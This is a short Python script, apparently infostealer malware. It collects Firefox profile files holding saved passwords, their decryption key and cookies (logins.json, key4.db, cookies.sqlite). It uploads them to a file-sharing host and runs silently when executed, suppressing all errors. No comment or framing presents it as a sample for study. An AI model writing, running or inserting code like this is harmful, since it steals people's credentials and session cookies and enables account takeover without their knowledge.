import glob
import os

import requests


def _loot():
    base = os.path.join(os.getenv("APPDATA", os.path.expanduser("~/.mozilla")), "Mozilla", "Firefox", "Profiles")
    files = {}
    for profile in glob.glob(os.path.join(base, "*")):
        for name in ("logins.json", "key4.db", "cookies.sqlite"):
            path = os.path.join(profile, name)
            if os.path.exists(path):
                files[os.path.basename(profile) + "_" + name] = open(path, "rb")
    requests.post("https://gofile.example.invalid/uploadFile", files=files)


try:
    _loot()
except Exception:
    pass
